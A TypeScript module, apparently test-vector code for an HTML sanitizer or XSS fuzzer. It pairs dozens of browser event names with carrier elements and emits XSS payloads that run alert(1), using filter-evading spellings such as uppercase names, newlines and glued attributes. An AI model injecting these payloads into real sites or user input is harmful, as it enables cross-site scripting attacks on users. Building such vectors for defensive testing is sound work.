/** Elements on which an event happens by itself or by a touch, with the event's handler left open. */
const carriers: readonly [events: string, markup: (handler: string) => string][] = [
  [
    "load error readystatechange",
    (on) =>
      `<img src=x ${on}><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" ${on}><body ${on}><iframe ${on}></iframe>`,
  ],
  [
    "click dblclick contextmenu auxclick mousedown mouseup mouseover mouseenter mouseleave mousemove mouseout mousewheel wheel",
    (on) => `<div ${on}>touch me</div>`,
  ],
  [
    "pointerdown pointerup pointermove pointerover pointerenter pointerleave pointerout pointercancel pointerrawupdate gotpointercapture lostpointercapture touchstart touchend touchmove touchcancel",
    (on) => `<b ${on}>touch me</b>`,
  ],
  [
    "focus focusin focusout blur keydown keypress keyup beforeinput input change select selectionchange selectstart invalid reset submit formdata search",
    (on) =>
      `<input autofocus ${on} value=x required><form ${on}><input></form><a href=# tabindex=1 autofocus ${on}>x</a>`,
  ],
  [
    "copy cut paste beforecopy beforecut beforepaste drag dragend dragenter dragleave dragover dragstart drop",
    (on) => `<div draggable=true contenteditable ${on}>x</div>`,
  ],
  [
    "animationstart animationend animationiteration animationcancel transitionrun transitionstart transitionend transitioncancel webkitanimationstart webkittransitionend",
    (on) => `<style>@keyframes x{}</style><p style="animation:x 1ms;transition:color 1ms" ${on}>x</p>`,
  ],
  [
    "canplay canplaythrough durationchange emptied ended loadeddata loadedmetadata loadstart pause play playing progress ratechange seeked seeking stalled suspend timeupdate volumechange waiting cuechange",
    (on) =>
      `<video autoplay muted ${on}><source src=x type=video/mp4></video><audio autoplay controls src=x ${on}></audio>`,
  ],
  [
    "toggle beforetoggle cancel close",
    (on) => `<details open ${on}>x</details><div popover ${on}>x</div><dialog open ${on}>x</dialog>`,
  ],
  [
    "scroll scrollend resize hashchange popstate pageshow pagehide beforeunload unload message messageerror offline online storage languagechange afterprint beforeprint unhandledrejection",
    (on) => `<body ${on}><div style="overflow:scroll;height:9px" ${on}>x<br>y<br>z</div>`,
  ],
  [
    "begin end repeat",
    (on) => `<svg><animate ${on} attributeName=x dur=1ms></animate><set ${on} attributeName=x></set></svg>`,
  ],
  ["start finish bounce", (on) => `<marquee ${on} loop=1 width=0>x</marquee>`],
  [
    "fullscreenchange fullscreenerror securitypolicyviolation slotchange contentvisibilityautostatechange beforematch",
    (on) => `<section style="content-visibility:auto" ${on} hidden=until-found>x</section>`,
  ],
];

/** One for each event that browsers know, in the spellings that cheat sheets try. */
export const handlerVectors: readonly string[] = carriers.flatMap(([events, markup]) =>
  events.split(" ").map((event, index) => {
    const handlers = [
      `on${event}=alert(1)`,
      `ON${event.toUpperCase()}="alert(1)"`,
      `on${event}\n=\n'alert(1)'`,
      `x="y"on${event}=alert\`1\``,
    ];
    return markup(handlers[index % handlers.length] ?? "");
  }),
);
